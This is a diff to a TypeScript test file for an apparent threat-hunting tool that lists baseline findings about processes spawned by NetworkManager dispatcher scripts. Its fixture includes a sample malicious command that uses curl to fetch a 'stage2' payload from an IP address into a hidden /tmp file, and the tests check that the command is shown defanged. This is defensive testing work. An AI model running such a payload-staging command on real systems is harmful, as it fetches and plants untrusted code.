@@ -10,7 +10,7 @@ import { childFinding, writeFinding } from './support/harness';
 
 const NOW = '2026-11-25T02:00:00.000Z';
 const SCRIPT = '/etc/NetworkManager/dispatcher.d/99-very-long-organisation-wide-vpn-routing-hook-name';
-const child = huntById('dispatcher-child-process')!;
+const child = huntById('dispatcher-script-child')!;
 const write = huntById('dispatcher-script-write')!;
 const entries: BaselineEntry[] = [
   entryFromFinding(child, childFinding(SCRIPT, '/usr/bin/curl', 'curl -fsS https://203.0.113.66/stage2 -o /tmp/.x', { hostNames: ['web-03'], lastSeen: '2026-11-24T21:15:00.000Z' }), 'alerted', NOW),
@@ -47,7 +47,7 @@ describe('baseline list', () => {
     const curl = lines.find((l) => l.includes('alerted'))!;
     assert.match(curl, /curl -fsS hxxps\[:\/\/\]203\[\.\]0\[\.\]113\[\.\]66\/stage2/, 'the command line comes first, inert');
     const ip = lines.find((l) => l.includes('learned'))!;
-    assert.match(ip, /ip route replace 10\[\.\]20\[\.\]0\[\.\]0\/16 dev tun0 · child \/usr\/sbin\/ip/);
+    assert.match(ip, /ip route replace 10\[\.\]20\[\.\]0\[\.\]0\/16 dev <interface> · child \/usr\/sbin\/ip/, 'the interface is masked: tun0 and tun1 are one child');
     assert.match(ip, /vpn-gw-01 \+1/, 'the first host and how many more');
   });
 
@@ -59,7 +59,7 @@ describe('baseline list', () => {
     }
     assert.match((await list([], 80)).lines[0]!, /^FINGERPRINT +STATUS +HUNT +IDENTITY$/, 'narrow: the optional columns make room');
     const piped = await list([]);
-    assert.ok(piped.lines.some((l) => l.includes(`parent dispatcher.d/${SCRIPT.split('/').pop()}`)), 'the whole identity, one line per entry');
+    assert.ok(piped.lines.some((l) => l.includes(`script dispatcher.d/${SCRIPT.split('/').pop()}`)), 'the whole identity, one line per entry');
     assert.equal(piped.lines.length, 1 + entries.length);
   });
 
@@ -73,7 +73,7 @@ describe('baseline list', () => {
     const fingerprints = async (args: string[]) => (JSON.parse((await list([...args, '--json'])).stdout) as BaselineEntry[]).map((e) => e.fingerprint).sort();
     assert.deepEqual(await fingerprints(['--host', 'vpn-gw-01']), [entries[1]!.fingerprint, entries[2]!.fingerprint].sort());
     assert.deepEqual(await fingerprints(['--since', '2026-11-05']), [entries[0]!.fingerprint, entries[1]!.fingerprint].sort());
-    assert.deepEqual(await fingerprints(['--since', '2026-11-24T00:00:00Z', '--hunt', 'dispatcher-child-process']), [entries[0]!.fingerprint]);
+    assert.deepEqual(await fingerprints(['--since', '2026-11-24T00:00:00Z', '--hunt', 'dispatcher-child-process'] /* the earlier id lists the hunts split from it */), [entries[0]!.fingerprint]);
     assert.deepEqual(await fingerprints(['--host', 'web-03', '--status', 'learned']), []);
     const bad = await list(['--since', 'last week']);
     assert.equal(bad.code, 2);
